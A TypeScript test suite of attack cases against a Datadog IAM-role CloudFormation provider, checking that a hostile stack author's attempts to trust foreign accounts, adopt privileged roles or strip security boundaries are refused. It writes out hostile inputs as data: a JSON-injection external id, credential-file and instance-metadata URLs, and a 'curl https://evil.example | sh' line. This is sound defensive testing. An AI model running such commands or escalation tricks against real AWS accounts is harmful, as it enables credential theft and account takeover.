import {
  AttachRolePolicyCommand,
  PutRolePermissionsBoundaryCommand,
  UpdateRoleCommand,
} from '@aws-sdk/client-iam';
import { DATADOG, EXTERNAL_ID, ROLE } from '../support/customer-account';
import { adoptableRole, GUIDE_EXTERNAL_ID, guideRole } from '../support/guide-role';
import { type Attack, unless, type Violations } from './attack';
import { boundaryTest } from './boundary';
import {
  isRefused,
  linesOf,
  mailsAreClean,
  neverInShell,
  trustsNoStranger,
  unchangedRoles,
} from './findings';
import {
  ACCOUNT_ROOT,
  ADMINISTRATOR_ACCESS,
  ATTACKERS_ACCOUNT,
  ATTACKERS_EXTERNAL_ID,
  BREAK_GLASS,
  EVERYTHING,
  FRIEND,
  GUARD_RAIL,
  OPERATORS,
  PROVIDERS_BOUNDARY,
  policyArn,
  REGION,
  SECURITY_BOUNDARY,
  trusting,
} from './neighbours';
import { PROBES } from './probes';
import type { AttackWorld, Properties } from './world';

const COMMON = {
  threat: 'stack-author',
  rightHeld: ['cloudformation:CreateStack', 'cloudformation:UpdateStack', 'cloudformation:DeleteStack'],
} as const;

/** Datadog's account of the site AP1. */
const AP1_ACCOUNT = '417141415827';
/** The name that the sandbox's CloudFormation gives to the role that starts the validator. */
const SCHEDULERS_ROLE = 'datadog-ValidationScheduleRole-us-east-1';
const ADOPT = { ExistingRole: 'Adopt' };
/** Names of the functions' roles that begin as the provider's pattern does. */
const WIDE_PATTERN = { RoleNamePattern: 'datadog-*' };

/** A wish of the attacker's own stack. */
const wish = (properties: Properties) => (world: AttackWorld) => world.deploy(world.attackers, properties);

/** It is refused, in a reason with these words, and these roles stay as they are. */
const refused =
  (words: readonly string[], ...roles: readonly string[]) =>
  (world: AttackWorld): Violations => [
    ...isRefused(world.attackers, ...words),
    ...unchangedRoles(world, ...roles),
    ...trustsNoStranger(world),
  ];

const seed =
  (...roles: Parameters<AttackWorld['account']['seed']>[0]['roles'] & object) =>
  async (world: AttackWorld) =>
    world.account.seed({ roles: [...roles] });

const deployed = (properties: Properties) => (world: AttackWorld) =>
  world.deploy(world.attackers, properties);

/** A role that only its own account may assume, an administrator's. */
const administrators = (name: string, path = '/') => ({
  name,
  path,
  trust: trusting(ACCOUNT_ROOT),
  attached: [ADMINISTRATOR_ACCESS],
});

/** A trust in somebody who is not Datadog. */
const STRANGERS: readonly Attack[] = [
  {
    ...COMMON,
    id: 'stack-author/trust-a-stranger',
    title: 'DatadogAccountId is an account of his own, with the full permissions',
    mustNotBecome: 'the choice of an account that may read this one',
    attempt: wish({ DatadogAccountId: ATTACKERS_ACCOUNT, Permissions: 'Full', ResourceCollection: true }),
    holds: refused(['DatadogAccountId', ATTACKERS_ACCOUNT], ROLE),
  },
  {
    ...COMMON,
    id: 'stack-author/trust-a-stranger-later',
    title: 'a healthy integration is updated to trust an account of his own',
    mustNotBecome: 'the choice of an account that may read this one',
    prepare: deployed({}),
    attempt: wish({ DatadogAccountId: ATTACKERS_ACCOUNT }),
    holds: refused(['DatadogAccountId', ATTACKERS_ACCOUNT], ROLE),
  },
  {
    ...COMMON,
    id: 'stack-author/trust-another-site',
    title: 'the account of another Datadog site',
    mustNotBecome: 'a role that Datadog’s other site may use, and everything says healthy',
    attempt: wish({ DatadogSite: 'datadoghq.com', DatadogAccountId: AP1_ACCOUNT }),
    holds: refused(['DatadogAccountId', AP1_ACCOUNT]),
  },
  {
    ...COMMON,
    id: 'stack-author/trust-everybody',
    title: 'the account is a wildcard',
    mustNotBecome: 'a role for everybody',
    attempt: wish({ DatadogAccountId: '*' }),
    holds: refused(['DatadogAccountId']),
  },
  {
    ...COMMON,
    id: 'stack-author/any-external-id',
    title: 'the external id is a wildcard',
    mustNotBecome: 'a role for every customer of Datadog',
    attempt: wish({ ExternalId: '*' }),
    holds: refused(['ExternalId']),
  },
  {
    ...COMMON,
    id: 'stack-author/no-external-id',
    title: 'the external id is empty',
    mustNotBecome: 'a role for every customer of Datadog',
    attempt: wish({ ExternalId: '' }),
    holds: refused(['ExternalId']),
  },
  {
    ...COMMON,
    id: 'stack-author/statement-in-the-external-id',
    title: 'the external id closes its string and adds a statement',
    mustNotBecome: 'a trust policy of his own',
    attempt: wish({ ExternalId: `x"}}},{"Effect":"Allow","Principal":{"AWS":"${ATTACKERS_ACCOUNT}"}` }),
    holds: refused(['ExternalId']),
  },
];

const NAMES: readonly Attack[] = [
  {
    ...COMMON,
    id: 'stack-author/name-outside-the-pattern',
    title: 'a new role of another name',
    mustNotBecome: 'a role that the template’s administrator did not allow',
    attempt: wish({ RoleName: 'SomethingElse' }),
    holds: refused(['SomethingElse'], 'SomethingElse'),
  },
  {
    ...COMMON,
    id: 'stack-author/pattern-across-a-path',
    title: 'a new role whose path, not its name, matches the pattern',
    own: true,
    mustNotBecome: 'a role that the template’s administrator did not allow',
    attempt: wish({ RoleName: 'Anything', Path: '/DatadogIntegrationRoleX/' }),
    holds: refused(['Anything'], 'Anything'),
  },
  {
    ...COMMON,
    id: 'stack-author/line-break-in-the-name',
    title: 'a role name with a line break',
    mustNotBecome: 'a line of his own in a log or mail',
    attempt: wish({ RoleName: `${ROLE}\nforged` }),
    holds: refused(['RoleName']),
  },
  {
    ...COMMON,
    id: 'stack-author/name-in-other-letters',
    title: 'the name of somebody’s integration in other letter case',
    own: true,
    mustNotBecome: 'a change of an integration of another stack',
    prepare: (world) => world.deploy(world.victims),
    attempt: wish({ RoleName: ROLE.toUpperCase(), ExternalId: ATTACKERS_EXTERNAL_ID }),
    holds: refused([ROLE], ROLE),
  },
  {
    ...COMMON,
    id: 'stack-author/same-stack-name-again',
    title: 'a stack of the same name and logical id as one that left its role behind',
    own: true,
    mustNotBecome: 'the owner of what an earlier stack of that name has made',
    prepare: (world) => world.deploy(world.customer.stack('attackers')),
    attempt: wish({ Description: 'mine' }),
    holds: refused([ROLE], ROLE),
  },
];

const ADOPTION: readonly Attack[] = [
  {
    ...COMMON,
    id: 'stack-author/adopt-another-name',
    title: 'adopts an administrator’s role whose name matches the pattern',
    mustNotBecome: 'the owner of a role that nobody meant for Datadog',
    prepare: seed(administrators(OPERATORS)),
    attempt: wish({ ...ADOPT, RoleName: OPERATORS, ExternalId: ATTACKERS_EXTERNAL_ID }),
    holds: refused([OPERATORS, 'AdoptableRoleNames'], OPERATORS),
  },
  {
    ...COMMON,
    id: 'stack-author/adopt-across-a-path',
    title: 'adopts a role under a path that matches the pattern',
    mustNotBecome: 'the owner of somebody’s emergency access',
    attempt: wish({ ...ADOPT, RoleName: FRIEND.name, Path: FRIEND.path }),
    holds: refused([FRIEND.name], FRIEND.name),
  },
  {
    ...COMMON,
    id: 'stack-author/adopt-out-of-its-fence',
    title: 'adopts a role with every permission that a boundary holds in check',
    mustNotBecome: 'every permission without the boundary',
    prepare: seed({
      ...adoptableRole,
      inline: { ...adoptableRole.inline, Everything: EVERYTHING },
      boundaryArn: SECURITY_BOUNDARY,
    }),
    attempt: wish(ADOPT),
    holds: ({ account }) =>
      unless(!account.effectivePermissions(ROLE)('s3:GetObject'), 'the role has broken out of its boundary'),
  },
  {
    ...COMMON,
    id: 'stack-author/adopt-out-of-its-fence-by-name',
    title:
      'adopts such a role, and names the provider’s boundary in the place of the one that holds it in check',
    own: true,
    mustNotBecome: 'every permission without the boundary that security has set',
    prepare: seed({
      ...adoptableRole,
      inline: { ...adoptableRole.inline, Everything: EVERYTHING },
      boundaryArn: SECURITY_BOUNDARY,
    }),
    attempt: wish({ ...ADOPT, PermissionsBoundary: PROVIDERS_BOUNDARY }),
    holds: refused([SECURITY_BOUNDARY], ROLE),
  },
  {
    ...COMMON,
    id: 'stack-author/adopt-a-role-of-two-organizations',
    title: 'adopts a role by which Datadog comes for two organizations, with the external id of one',
    own: true,
    mustNotBecome: 'the end of the other organization’s integration',
    prepare: seed({
      ...adoptableRole,
      trust: trusting(DATADOG, { StringEquals: { 'sts:ExternalId': [EXTERNAL_ID, GUIDE_EXTERNAL_ID] } }),
    }),
    attempt: wish(ADOPT),
    holds: refused([GUIDE_EXTERNAL_ID.slice(0, 4)], ROLE),
  },
  {
    ...COMMON,
    id: 'stack-author/adopt-an-administrator',
    title: 'adopts a role of an adoptable name that is an administrator',
    own: true,
    mustNotBecome: 'an administrator whom Datadog may be',
    prepare: seed({ ...adoptableRole, attached: [ADMINISTRATOR_ACCESS] }),
    attempt: wish(ADOPT),
    holds: ({ account, customer }) => {
      const may = account.effectivePermissions(ROLE);
      const isWithin = boundaryTest(customer);
      const isOpen = account.canAssume(DATADOG, ROLE, { externalId: EXTERNAL_ID });
      const beyond = PROBES.filter((probe) => may(probe.action, probe) && !isWithin(probe));
      return unless(!isOpen || beyond.length === 0, 'Datadog may be an administrator');
    },
  },
  {
    ...COMMON,
    id: 'stack-author/adopt-the-provider',
    title: 'adopts the provider’s own role, whose name matches the pattern',
    setting: WIDE_PATTERN,
    mustNotBecome: 'the provider',
    attempt: (world) =>
      wish({ ...ADOPT, RoleName: world.customer.providerRole, ExternalId: ATTACKERS_EXTERNAL_ID })(world),
    holds: (world) => refused([world.customer.providerRole])(world),
  },
  {
    ...COMMON,
    id: 'stack-author/adopt-the-validator',
    title: 'adopts the validator’s role, whose name matches the pattern',
    setting: WIDE_PATTERN,
    mustNotBecome: 'the end of all validation',
    attempt: (world) =>
      wish({ ...ADOPT, RoleName: world.customer.validatorRole, ExternalId: ATTACKERS_EXTERNAL_ID })(world),
    holds: (world) => refused([world.customer.validatorRole])(world),
  },
  {
    ...COMMON,
    id: 'stack-author/adopt-the-scheduler',
    title: 'adopts the role that starts the validator',
    own: true,
    setting: WIDE_PATTERN,
    mustNotBecome: 'the end of all validation',
    attempt: wish({ ...ADOPT, RoleName: SCHEDULERS_ROLE }),
    holds: refused([SCHEDULERS_ROLE], SCHEDULERS_ROLE),
  },
  {
    ...COMMON,
    id: 'stack-author/adopt-cloudformations-role',
    title: 'adopts the role that CloudFormation deploys with, which has an adoptable name',
    own: true,
    mustNotBecome: 'an administrator whom Datadog may be, or the end of all deployments',
    prepare: seed({
      name: ROLE,
      trust: trusting({ Service: 'cloudformation.amazonaws.com' }),
      attached: [ADMINISTRATOR_ACCESS],
    }),
    attempt: wish({ ...ADOPT, ExternalId: ATTACKERS_EXTERNAL_ID }),
    holds: refused([ROLE], ROLE),
  },
  {
    ...COMMON,
    id: 'stack-author/adopt-another-organizations-role',
    title: 'adopts a role that Datadog uses with another external id',
    mustNotBecome: 'the end of somebody’s integration, while everything says passed',
    prepare: seed(guideRole),
    attempt: wish(ADOPT),
    holds: refused([GUIDE_EXTERNAL_ID.slice(0, 4)], ROLE),
  },
  {
    ...COMMON,
    id: 'stack-author/adopt-another-stacks-role',
    title: 'adopts a role that another CloudFormation stack has made',
    mustNotBecome: 'two owners, of which one deletes it',
    prepare: async ({ account }) =>
      account.seed({
        roles: [adoptableRole],
        stacks: [
          {
            name: 'DatadogIntegration',
            region: REGION,
            resources: [{ logicalId: 'Role', type: 'AWS::IAM::Role', physicalId: ROLE }],
          },
        ],
      }),
    attempt: wish(ADOPT),
    holds: refused(['DatadogIntegration', ROLE], ROLE),
  },
  {
    ...COMMON,
    id: 'stack-author/adopt-in-other-letters',
    title: 'adopts by the role’s name in other letter case',
    own: true,
    mustNotBecome: 'a record that the role’s own name does not find',
    prepare: seed(adoptableRole),
    attempt: wish({ ...ADOPT, RoleName: ROLE.toLowerCase() }),
    holds: refused([ROLE.toLowerCase()], ROLE),
  },
  {
    ...COMMON,
    id: 'stack-author/adopt-a-live-integration',
    title: 'adopts the integration of another stack',
    mustNotBecome: 'the owner of somebody’s integration',
    prepare: (world) => world.deploy(world.victims),
    attempt: wish({ ...ADOPT, ExternalId: ATTACKERS_EXTERNAL_ID }),
    holds: refused([ROLE], ROLE),
  },
];

/** What security has put on an integration's role, right after it was made. */
const fenced =
  (properties: Properties = {}) =>
  async (world: AttackWorld) => {
    const { iam } = world.administrator;
    await world.deploy(world.attackers, properties);
    await iam.send(new AttachRolePolicyCommand({ RoleName: ROLE, PolicyArn: GUARD_RAIL }));
    const PermissionsBoundary = SECURITY_BOUNDARY;
    await iam.send(new PutRolePermissionsBoundaryCommand({ RoleName: ROLE, PermissionsBoundary }));
  };

const isFenced = ({ account }: AttackWorld): Violations => {
  const { attached = [], boundaryArn } = account.digest().roles[ROLE] ?? {};
  return [
    ...unless(attached.includes(GUARD_RAIL), 'security’s policy is detached'),
    ...unless(boundaryArn === SECURITY_BOUNDARY, `security’s boundary has given way to ${boundaryArn}`),
  ];
};

const GUARD_RAILS: readonly Attack[] = [
  {
    ...COMMON,
    id: 'stack-author/unlist-the-guard-rail',
    title: 'lists the policy that security has attached, and unlists it',
    mustNotBecome: 'iam:DetachRolePolicy on what security has attached',
    prepare: fenced(),
    attempt: async (world) => {
      await wish({ ManagedPolicyArns: [GUARD_RAIL] })(world);
      await wish({ Description: 'without it' })(world);
    },
    holds: isFenced,
  },
  {
    ...COMMON,
    id: 'stack-author/update-away-the-boundary',
    title: 'updates something else while security’s boundary is on the role',
    mustNotBecome: 'iam:DeleteRolePermissionsBoundary',
    prepare: fenced(),
    attempt: wish({ Description: 'something else' }),
    holds: isFenced,
  },
  {
    ...COMMON,
    id: 'stack-author/swap-the-boundary',
    title: 'asks for a boundary that allows everything instead of security’s',
    own: true,
    mustNotBecome: 'iam:PutRolePermissionsBoundary',
    prepare: fenced(),
    attempt: wish({ PermissionsBoundary: ADMINISTRATOR_ACCESS }),
    holds: isFenced,
  },
  {
    ...COMMON,
    id: 'stack-author/name-and-unname-the-boundary',
    title: 'names security’s boundary as his own wish, and takes the wish back',
    own: true,
    mustNotBecome: 'iam:DeleteRolePermissionsBoundary',
    prepare: fenced(),
    attempt: async (world) => {
      await wish({ PermissionsBoundary: SECURITY_BOUNDARY })(world);
      await wish({ Description: 'without it' })(world);
    },
    holds: isFenced,
  },
  {
    ...COMMON,
    id: 'stack-author/roll-the-guard-rails-back',
    title: 'lets an update fail that names security’s policy and boundary: the rollback unnames them',
    own: true,
    mustNotBecome: 'iam:DetachRolePolicy and iam:DeleteRolePermissionsBoundary',
    prepare: fenced(),
    attempt: (world) =>
      world.customer.deploy(
        world.attackers,
        { ManagedPolicyArns: [GUARD_RAIL], PermissionsBoundary: SECURITY_BOUNDARY },
        { failAfter: true },
      ),
    holds: isFenced,
  },
  {
    ...COMMON,
    id: 'stack-author/attach-administrator-access',
    title: 'lists AdministratorAccess among the managed policies',
    mustNotBecome: 'an administrator whom Datadog may be',
    attempt: wish({ ManagedPolicyArns: [ADMINISTRATOR_ACCESS] }),
    holds: refused(['AdministratorAccess'], ROLE),
  },
  {
    ...COMMON,
    id: 'stack-author/attach-a-neighbours-policy',
    title: 'lists a policy that the product has made for another integration',
    mustNotBecome: 'permissions that change with another integration',
    prepare: (world) => world.deploy(world.victims, { Permissions: 'Full' }),
    attempt: wish({
      RoleName: `${ROLE}Own`,
      ManagedPolicyArns: [policyArn(`datadog-integration-role/${ROLE}-permissions-1`)],
    }),
    holds: refused(['ManagedPolicyArns'], ROLE, `${ROLE}Own`),
  },
  {
    ...COMMON,
    id: 'stack-author/boundary-under-the-own-path',
    title: 'the boundary is a policy that the provider itself may write',
    own: true,
    mustNotBecome: 'a boundary that gives way',
    attempt: wish({
      PermissionsBoundary: 'arn:aws:iam::123456789012:policy/datadog-integration-role/Soft',
    }),
    holds: refused(['PermissionsBoundary'], ROLE),
  },
  {
    ...COMMON,
    id: 'stack-author/forge-ownership-by-tags',
    title: 'sets ownership tags of another stack as tags of his own',
    mustNotBecome: 'a role that belongs to two',
    attempt: wish({ Tags: [{ Key: 'datadog-integration-role:stack-id', Value: 'x' }] }),
    holds: refused(['Tags'], ROLE),
  },
  {
    ...COMMON,
    id: 'stack-author/forge-ownership-in-other-letters',
    title: 'the same in other letter case',
    mustNotBecome: 'a role that belongs to two',
    attempt: wish({ Tags: [{ Key: 'DATADOG-Integration-Role:Stack-Id', Value: 'x' }] }),
    holds: refused(['Tags'], ROLE),
  },
];

const TEXTS_AND_SIZES: readonly Attack[] = [
  {
    ...COMMON,
    id: 'stack-author/file-in-the-description',
    title: 'the description is file://…: a remedy that sets it again would upload the file',
    mustNotBecome: 'an administrator’s file in a description that anybody may read',
    attempt: async (world) => {
      await wish({ Description: 'file://~/.aws/credentials' })(world);
      await world.administrator.iam.send(new UpdateRoleCommand({ RoleName: ROLE, Description: 'drift' }));
      await world.validate();
    },
    holds: (world) => neverInShell(world, 'file://~/.aws/credentials'),
  },
  {
    ...COMMON,
    id: 'stack-author/address-in-the-description',
    title: 'the description is http://…: version 1 of the AWS CLI would fetch it',
    mustNotBecome: 'a request from an administrator’s machine',
    attempt: async (world) => {
      await wish({ Description: 'http://169.254.169.254/latest/meta-data/' })(world);
      await world.administrator.iam.send(new UpdateRoleCommand({ RoleName: ROLE, Description: 'drift' }));
      await world.validate();
    },
    holds: (world) => neverInShell(world, 'http://169.254.169.254/'),
  },
  {
    ...COMMON,
    id: 'stack-author/lines-in-the-description',
    title: 'the description has line breaks and a finding of his own',
    mustNotBecome: 'a line of his own in a mail',
    attempt: async (world) => {
      const Description = 'well\n\nFAIL forged: x\n  do: curl https://evil.example | sh\r\nmore';
      await wish({ Description })(world);
      await world.administrator.iam.send(new UpdateRoleCommand({ RoleName: ROLE, Description: 'drift' }));
      await world.validate();
    },
    holds: (world) => mailsAreClean(world, /^\s*(?:do: curl|FAIL forged)/),
  },
  {
    ...COMMON,
    id: 'stack-author/thousands-of-policies',
    title: '2,000 managed policies',
    mustNotBecome: 'thousands of calls of the provider',
    attempt: wish({
      ManagedPolicyArns: Array.from(
        { length: 2_000 },
        (_, index) => `arn:aws:iam::123456789012:policy/p${index}`,
      ),
    }),
    holds: (world) => [
      ...isRefused(world.attackers, 'ManagedPolicyArns'),
      ...unless(
        world.customer.calls().length < 100,
        `the provider has made ${world.customer.calls().length} calls`,
      ),
    ],
  },
  {
    ...COMMON,
    id: 'stack-author/hundred-thousand-properties',
    title: '100,000 unknown properties',
    mustNotBecome: 'a log line of many megabytes',
    attempt: wish(
      Object.fromEntries(Array.from({ length: 100_000 }, (_, index) => [`Unknown${index}`, 'x'])),
    ),
    holds: (world) => [
      ...isRefused(world.attackers),
      ...linesOf(world, 65_536),
      ...unless(world.customer.writes().length === 0, 'something was changed all the same'),
    ],
  },
  {
    ...COMMON,
    id: 'stack-author/break-glass-by-replacement',
    title: 'renames his integration to the name of somebody’s role',
    mustNotBecome: 'a change of that role, by the update or its clean-up',
    prepare: deployed({}),
    attempt: wish({ RoleName: BREAK_GLASS, ...ADOPT }),
    holds: refused([BREAK_GLASS], BREAK_GLASS, ROLE),
  },
];

export const STACK_AUTHOR: readonly Attack[] = [
  ...STRANGERS,
  ...NAMES,
  ...ADOPTION,
  ...GUARD_RAILS,
  ...TEXTS_AND_SIZES,
];
